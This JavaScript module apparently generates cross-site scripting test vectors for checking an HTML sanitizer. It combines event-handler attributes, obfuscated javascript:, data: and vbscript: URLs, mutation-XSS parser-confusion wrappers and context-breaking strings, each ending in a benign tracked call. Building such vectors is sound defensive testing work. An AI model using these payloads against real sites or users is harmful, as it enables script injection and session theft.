// What vectors are made of. `id` is the number by which one is known when it runs.

/** Ways to run code; every one ends in a call that is listened to. */
const CODES = [
  (id) => `alert(${id})`,
  (id) => `hit(${id})`,
  (id) => `prompt(${id})`,
  (id) => `confirm(${id})`,
  (id) => `top.hit(${id})`,
  (id) => `(alert)(${id})`,
  (id) => `self[\`hit\`](${id})`,
  (id) => `hit\`${id}\``,
  (id) => `setTimeout(\`hit(${id})\`)`,
  (id) => `[${id}].map(hit)`,
];
export const code = (id) => CODES[id % CODES.length](id);

const TAGS =
  "a abbr acronym address area article aside audio b bdi bdo big blink blockquote body br button canvas caption center cite code col colgroup data datalist dd del details dfn dialog dir div dl dt em fieldset figcaption figure font footer form h1 h6 header hr html i iframe image img input ins isindex kbd keygen label legend li link main map mark marquee math menu meter nav object ol optgroup option output p param picture pre progress q rb rt ruby s samp section select slot small source span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr x-own xss mi mtext annotation-xml svg:svg animate set g path foreignobject desc".split(
    " ",
  );
const EVENTS =
  "abort afterprint animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle begin blur cancel canplay change click close contentvisibilityautostatechange contextmenu copy cut dblclick drag dragend dragstart end error focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste play pointerdown pointerenter pointermove pointerover pointerrawupdate pointerup popstate reset resize scroll scrollend scrollsnapchange search securitypolicyviolation select selectionchange selectstart show slotchange submit suspend timeupdate toggle touchstart transitionend transitionstart unhandledrejection unload volumechange waiting webkitanimationstart wheel".split(
    " ",
  );
/** What stands between a name and an attribute. */
const GAPS = [" ", "/", "\n", "\t", " / ", "\f", "//", " x ", ' x="y"', " x='y'", ' x="', ' a=b/', ' "" ', " = "];
const entities = (text) => text.replace(/[a-z(]/g, (c) => `&#${c.codePointAt(0)};`);
const hexes = (text) => text.replace(/[a-z(]/g, (c) => `&#x${c.codePointAt(0).toString(16)};`);
/** How a handler is written. */
const VALUES = [
  (code) => `="${code}"`,
  (code) => `='${code}'`,
  (code) => `=${code}`,
  (code) => ` = "${code}"`,
  (code) => `="${entities(code)}"`,
  (code) => `='${hexes(code)}'`,
  (code) => `=${entities(code)}`,
  (code) => `="//&#10;${code}"`,
  (code) => `=\n"${code}"`,
  (code) => `="&Tab;${code};"`,
];
/** A capital at the beginning would be a component's. */
const CASES = [(name) => name, (name) => name[0] + name.slice(1).toUpperCase(), (name) => [...name].map((c, at) => (at % 2 ? c.toUpperCase() : c)).join("")];
const ENDS = [">", " autofocus tabindex=1>", " src=x>", "/>", " contenteditable>", " style=display:block>", " x>words", " <b>", ">\n", " open>", " src=/none>", ">words</x>"];

/** An element with a handler, for every pair of an element and an event. */
export function* handlers() {
  let turn = 0;
  for (const [at, tag] of TAGS.entries()) {
    // each element meets each event in the end, in steps that have no common factor with the number of events
    for (let count = 0; count < 18; count += 1) {
      const event = EVENTS[(at * 7 + count * 5) % EVENTS.length];
      turn += 1;
      const [gap, value, spelt, end] = [GAPS, VALUES, CASES, ENDS].map((list, number) => list[(turn * (number + 3) + at) % list.length]);
      yield (id) => `<${spelt(tag)}${gap}${spelt(`on${event}`)}${value(code(id))}${end}`;
    }
  }
}

const encoded = (text) => encodeURIComponent(text);
const base64 = (text) => Buffer.from(text).toString("base64");
const SVG = (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${code(id).replaceAll('"', "'")}"/>`;
/** Addresses that run, as they are written in a text. */
export const ADDRESSES = [
  (id) => `javascript:${code(id)}`,
  (id) => `JaVaScRiPt:${code(id)}`,
  (id) => `JAVASCRIPT:${code(id)}`,
  (id) => ` javascript:${code(id)}`,
  (id) => `\u0001javascript:${code(id)}`,
  (id) => `\u001fjavascript:${code(id)}`,
  (id) => `\u00a0javascript:${code(id)}`,
  (id) => `\ufeffjavascript:${code(id)}`,
  (id) => `java\tscript:${code(id)}`,
  (id) => `javascript\t:${code(id)}`,
  (id) => `java\u200bscript:${code(id)}`,
  (id) => `ｊavascript:${code(id)}`,
  (id) => `&#106;avascript:${code(id)}`,
  (id) => `&#0000106avascript:${code(id)}`,
  (id) => `&#x6A;&#x61;vascript:${code(id)}`,
  (id) => `javascript&colon;${code(id)}`,
  (id) => `javascript&#58${code(id)}`,
  (id) => `javascript&#x3A;${code(id)}`,
  (id) => `java&Tab;script&colon;${code(id)}`,
  (id) => `java&NewLine;script:${code(id)}`,
  (id) => `java&#x0D;script:${code(id)}`,
  (id) => `&#1;javascript:${code(id)}`,
  (id) => `&#32;&#14;javascript&#x00003a;${code(id)}`,
  (id) => `&nbsp;javascript:${code(id)}`,
  (id) => `&amp;#106;avascript:${code(id)}`,
  (id) => `%6aavascript:${code(id)}`,
  (id) => `javascript%3a${code(id)}`,
  (id) => `\\javascript:${code(id)}`,
  (id) => `java\\script:${code(id)}`,
  (id) => `javascript://example.org/%0a${code(id)}`,
  (id) => `javascript:/*--></title></style></textarea>*/${code(id)}`,
  (id) => `javascript:void%200?0:${code(id)}//?mailto:a@b`,
  (id) => `x:javascript:${code(id)}`,
  (id) => `feed:javascript:${code(id)}`,
  (id) => `view-source:javascript:${code(id)}`,
  (id) => `livescript:${code(id)}`,
  (id) => `vbscript:${code(id)}`,
  (id) => `VBS&#99;ript:${code(id)}`,
  (id) => `data:text/html,<script>${code(id)}</script>`,
  (id) => `data:text/html,${encoded(`<script>${code(id)}</script>`)}`,
  (id) => `data:text/html;base64,${base64(`<script>${code(id)}</script>`)}`,
  (id) => `DATA:TEXT/HTML;charset=utf-8;base64,${base64(`<img src=x onerror=${code(id)}>`)}`,
  (id) => `data&colon;text/html,${encoded(`<script>${code(id)}</script>`)}`,
  (id) => `da\tta:text/html,${encoded(`<script>${code(id)}</script>`)}`,
  (id) => `data:;base64,${base64(`<script>${code(id)}</script>`)}`,
  (id) => `data:,${encoded(`<script>${code(id)}</script>`)}`,
  (id) => `data:image/svg+xml,${encoded(SVG(id))}`,
  (id) => `data:image/svg+xml;base64,${base64(SVG(id))}`,
  (id) => `data:application/xhtml+xml,${encoded(`<x xmlns="http://www.w3.org/1999/xhtml"><script>${code(id)}</script></x>`)}`,
  (id) => `data:application/xml,${encoded(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code(id)}</x:script>`)}`,
  (id) => `data:text/xml,${encoded(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${code(id)}</x:script>`)}`,
  (id) => `data:text/javascript,${encoded(code(id))}`,
  (id) => `data:text/css,${encoded(`*{background:url(javascript:${code(id)})}`)}`,
  (id) => `blob:https://example.org/${id}`,
  (id) => `filesystem:https://example.org/${id}`,
  (id) => `file:///etc/passwd#${id}`,
  (id) => `about:blank#${id}`,
  (id) => `intent://${id}#Intent;end`,
  (id) => `chrome://version/#${id}`,
  (id) => `ms-word:ofe|u|${id}`,
];

/** Elements that take an address to somewhere. */
const CARRIERS = [
  (url) => `<a href=${url}>words</a>`,
  (url) => `<a href=${url} target=_self>words</a>`,
  (url) => `<a rel=x HREF=${url}>words</a>`,
  (url) => `<a href="#" ping=${url}>words</a>`,
  (url) => `<a href=x href=${url}>words</a>`,
  (url) => `<area shape=default href=${url}>`,
  (url) => `<map name=m><area href=${url}></map>`,
  (url) => `<iframe src=${url}></iframe>`,
  (url) => `<iframe/src=${url}>`,
  (url) => `<frameset><frame src=${url}></frameset>`,
  (url) => `<embed src=${url}>`,
  (url) => `<object data=${url}></object>`,
  (url) => `<object><param name=src value=${url}></object>`,
  (url) => `<form action=${url}><button>words</button></form>`,
  (url) => `<form><button formaction=${url}>words</button></form>`,
  (url) => `<form><input type=submit formaction=${url}></form>`,
  (url) => `<input type=image src=${url} formaction=${url}>`,
  (url) => `<base href=${url}>`,
  (url) => `<link rel=stylesheet href=${url}>`,
  (url) => `<link rel=import href=${url}>`,
  (url) => `<link rel="modulepreload" href=${url}>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url.replaceAll(/["']/g, "")}">`,
  (url) => `<img src=${url}>`,
  (url) => `<img srcset=${url}>`,
  (url) => `<img src=x longdesc=${url} usemap=${url}>`,
  (url) => `<video src=${url} poster=${url}></video>`,
  (url) => `<video><source src=${url}><track src=${url} default></video>`,
  (url) => `<audio src=${url}></audio>`,
  (url) => `<body background=${url}>`,
  (url) => `<table background=${url}><td background=${url}>`,
  (url) => `<blockquote cite=${url}>words</blockquote>`,
  (url) => `<svg><a xlink:href=${url}><text x=9 y=9>words</text></a></svg>`,
  (url) => `<svg><a href=${url}><rect width=9 height=9 /></a></svg>`,
  (url) => `<svg><use href=${url} /></svg>`,
  (url) => `<svg><image href=${url} /></svg>`,
  (url) => `<svg><script href=${url} /></svg>`,
  (url) => `<svg><a><animate attributeName=href values=${url} /><text x=9 y=9>words</text></a></svg>`,
  (url) => `<svg><a><set attributeName=href to=${url} /><text x=9 y=9>words</text></a></svg>`,
  (url) => `<svg><a><animate attributeName=xlink:href from=x to=${url} begin=0s /><text>words</text></a></svg>`,
  (url) => `<math href=${url}><mi>words</mi></math>`,
  (url) => `<math><maction actiontype=statusline xlink:href=${url}><mi>words</mi></maction></math>`,
  (url) => `<script src=${url}></script>`,
  (url) => `<p style="background:url(${url.replaceAll(/["']/g, "")})">words</p>`,
  (url) => `<style>@import ${url};</style>`,
  (url) => `<portal src=${url}></portal>`,
  (url) => `<isindex action=${url} type=submit>`,
];
const QUOTES = [(url) => `"${url.replaceAll('"', "&quot;")}"`, (url) => `'${url.replaceAll("'", "&#39;")}'`];

export function* addresses() {
  for (const [at, carrier] of CARRIERS.entries()) {
    for (let count = 0; count < 34; count += 1) {
      const address = ADDRESSES[(at * 11 + count * 7) % ADDRESSES.length];
      yield (id) => carrier(QUOTES[(at + count) % QUOTES.length](address(id)));
    }
  }
}

/** Markup that runs when a browser comes to see it as markup. */
const PAYLOADS = [
  (id) => `<img src=x onerror=${code(id)}>`,
  (id) => `<script>${code(id)}</script>`,
  (id) => `<svg onload=${code(id)}>`,
  (id) => `<a href="javascript:${code(id)}">words</a>`,
  (id) => `<input autofocus onfocus=${code(id)}>`,
  (id) => `<details open ontoggle=${code(id)}>`,
];
const quoted = (text) => text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
/** Where readers of HTML disagree: what one takes for text another takes for markup. */
const WRAPS = [
  (x) => x,
  (x) => `<svg><style>${x}</style></svg>`,
  (x) => `<svg><title>${x}</title></svg>`,
  (x) => `<svg><desc>${x}</desc></svg>`,
  (x) => `<svg><textarea>${x}</textarea></svg>`,
  (x) => `<svg><iframe>${x}</iframe></svg>`,
  (x) => `<svg><noscript>${x}</noscript></svg>`,
  (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
  (x) => `<svg></p><style><g title="</style>${quoted(x)}">`,
  (x) => `<svg><![CDATA[${x}]]></svg>`,
  (x) => `<svg><![CDATA[><image xlink:href="]]>${x}"></svg>`,
  (x) => `<math><style>${x}</style></math>`,
  (x) => `<math><title>${x}</title></math>`,
  (x) => `<math><mtext><style>${x}</style></mtext></math>`,
  (x) => `<math><mtext><table><mglyph><style>${x}</style></mglyph></table></mtext></math>`,
  (x) => `<math><mtext><table><mglyph><style><!--</style><i title="--&gt;${quoted(x)}">`,
  (x) => `<math><annotation-xml encoding="text/html"><style>${x}</style></annotation-xml></math>`,
  (x) => `<math><annotation-xml><title>${x}</title></annotation-xml></math>`,
  (x) => `<style>${x}</style>`,
  (x) => `<style></stylex>${x}</style>`,
  (x) => `<style></style/>${x}`,
  (x) => `<style></style\n>${x}`,
  (x) => `<title>${x}</title>`,
  (x) => `<title></title x>${x}`,
  (x) => `<textarea>${x}</textarea>`,
  (x) => `<textarea><p title="</textarea>${quoted(x)}">`,
  (x) => `<textarea></textarea>${x}`,
  (x) => `<xmp><p title="</xmp>${x.replaceAll('"', "")}">`,
  (x) => `<noscript><p title="</noscript>${x.replaceAll('"', "")}">`,
  (x) => `<noembed><p title="</noembed>${x.replaceAll('"', "")}">`,
  (x) => `<noframes><p title="</noframes>${x.replaceAll('"', "")}">`,
  (x) => `<iframe><p title="</iframe>${x.replaceAll('"', "")}"></iframe>`,
  (x) => `<iframe srcdoc="${quoted(x)}"></iframe>`,
  (x) => `<iframe srcdoc='${x.replaceAll("'", "&#39;")}'></iframe>`,
  (x) => `<template>${x}</template>`,
  (x) => `<template shadowrootmode=open>${x}</template>`,
  (x) => `<div><template shadowrootmode=open><slot></slot>${x}</template></div>`,
  (x) => `<select><option>${x}</option></select>`,
  (x) => `<select><style></select>${x}</style>`,
  (x) => `<table><tr><td><table>${x}`,
  (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
  (x) => `<a title="${x.replaceAll('"', "'")}">words</a>`,
  (x) => `<a title='">${x.replaceAll("'", '"')}'>words</a>`,
  (x) => `<a title=\`${x.replaceAll("`", "")}\`>words</a>`,
  (x) => `<p "=">${x}`,
  (x) => `<p =">${x}" >`,
  (x) => `<p '${x}'>`,
  (x) => `<p a='"b' c="'>${x}">`,
  (x) => `</ ${x}>`,
  (x) => `</x title="${x.replaceAll('"', "'")}">`,
  (x) => `</p/x ${x}>`,
  (x) => `<//${x}`,
  (x) => `<<${x}`,
  (x) => `<p<${x}`,
  (x) => `<p/<${x}`,
  (x) => `<%${x}%>`,
  (x) => `<x:y>${x}</x:y>`,
  (x) => `\\${x}`,
  (x) => `&lt;p&gt;${x}`,
  (x) => x.replaceAll("<", "&lt;"),
  (x) => x.replaceAll("<", "&amp;lt;"),
  (x) => x.replaceAll("<", "&#60;").replaceAll(">", "&#62;"),
  (x) => x.replaceAll("<", "＜").replaceAll(">", "＞"),
  (x) => x.replaceAll("<", "\\u003c"),
  (x) => x.replace("<", "<\u0000"),
  (x) => x.replace(/<(\w)/, "<\u0000$1"),
  (x) => x.replace(" ", "\u000b"),
  (x) => x.replaceAll("s", "ſ"),
  (x) => `${x.slice(0, 4)}${x}${x.slice(4)}`,
  (x) => x.replace(/<(\w+)/, "<$1<$1"),
  (x) => x.replace(/<(\w+)/, "<$1/"),
  (x) => x.replace(">", ""),
];
/** These may swallow what follows to the end of the page, so each stands at the end of one. */
const LAST = [
  (x) => `<!--${x}-->`,
  (x) => `<!-->${x}-->`,
  (x) => `<!--->${x}-->`,
  (x) => `<!-- --!>${x}<!-- -->`,
  (x) => `<!-- > -- >${x}-->`,
  (x) => `<!-->${x}`,
  (x) => `<!-- ${x}`,
  (x) => `<!-${x}`,
  (x) => `<!${x}`,
  (x) => `<!DOCTYPE x [${x}]>`,
  (x) => `<!DOCTYPE x "${x.replaceAll('"', "'")}">`,
  (x) => `<?x ${x}?>`,
  (x) => `<?x ?>${x}`,
  (x) => `<![CDATA[${x}`,
  (x) => `<![CDATA[]]>${x}]]>`,
  (x) => `<![CDATA[><p title="]]>${x.replaceAll('"', "'")}">`,
  (x) => `<style>${x}`,
  (x) => `<title>${x}`,
  (x) => `<textarea>${x}`,
  (x) => `<xmp>${x}</xmp>${x}`,
  (x) => `<plaintext>${x}`,
  (x) => `<noscript>${x}`,
  (x) => `<script>//${x}\n${x}`,
  (x) => `<script>x<!--<script>${x}</script>--></script>${x}`,
  (x) => `<pre>${x}`,
  (x) => `<p title="${x.replaceAll('"', "'")}`,
  (x) => `<p title='${x.replaceAll("'", '"')}`,
  (x) => `<p ${x}`,
];

export function* markup() {
  for (const wrap of WRAPS) for (const payload of PAYLOADS) yield (id) => wrap(payload(id));
}

export function* swallowing() {
  for (const wrap of LAST) for (const payload of PAYLOADS) yield (id) => wrap(payload(id));
}

/** What breaks out of a text, an attribute, a script, a style, JSON, a URL or a template, were it written as it is. */
export const BREAKERS = [
  (id) => `<script>${code(id)}</script>`,
  (id) => `<img src=x onerror=${code(id)}>`,
  (id) => `"><img src=x onerror=${code(id)}>`,
  (id) => `'><img src=x onerror=${code(id)}>`,
  (id) => `" autofocus onfocus="${code(id)}" x="`,
  (id) => `' autofocus onfocus='${code(id)}' x='`,
  (id) => `" onmouseover=${code(id)} x=`,
  (id) => `\` onmouseover=${code(id)}`,
  (id) => `</script><script>${code(id)}</script>`,
  (id) => `</script><svg onload=${code(id)}>`,
  (id) => `<!--<script>${code(id)}//`,
  (id) => `--></script><img src=x onerror=${code(id)}>`,
  (id) => `";${code(id)};"`,
  (id) => `\\";${code(id)};//`,
  (id) => `\\u003cimg src=x onerror=${code(id)}\\u003e`,
  (id) => `</title><img src=x onerror=${code(id)}>`,
  (id) => `</style><img src=x onerror=${code(id)}>`,
  (id) => `</textarea><img src=x onerror=${code(id)}>`,
  (id) => `</svg><img src=x onerror=${code(id)}>`,
  (id) => `]]><img src=x onerror=${code(id)}>`,
  (id) => `&lt;img src=x onerror=${code(id)}&gt;`,
  (id) => `&quot;&gt;&lt;img src=x onerror=${code(id)}&gt;`,
  (id) => `&#34; onfocus=${code(id)} autofocus x=&#34;`,
  (id) => `{{ "<img src=x onerror=${code(id)}>" | safe }}`,
  (id) => `{% raw %}<img src=x onerror=${code(id)}>{% endraw %}`,
  (id) => `{{<script>${code(id)}</script>}}`,
  (id) => `\${${code(id)}}`,
  (id) => `javascript:${code(id)}`,
  (id) => `JavaScript&colon;${code(id)}`,
  (id) => `data:text/html,<script>${code(id)}</script>`,
  (id) => `x)"><img src=x onerror=${code(id)}>`,
  (id) => `url(javascript:${code(id)})`,
  (id) => `*x*<img src=x onerror=${code(id)}>\`y\``,
  (id) => `[words](javascript:${code(id)})`,
  (id) => `![words](x" onerror="${code(id)})`,
  (id) => `<svg><style><img src=x onerror=${code(id)}></style></svg>`,
  (id) => `<svg><title><img src=x onerror=${code(id)}></title></svg>`,
  (id) => `<iframe srcdoc="<script>${code(id)}</script>">`,
  (id) => `<a href="javascript:${code(id)}">words</a>`,
  (id) => `﹤img src=x onerror=${code(id)}﹥`,
];
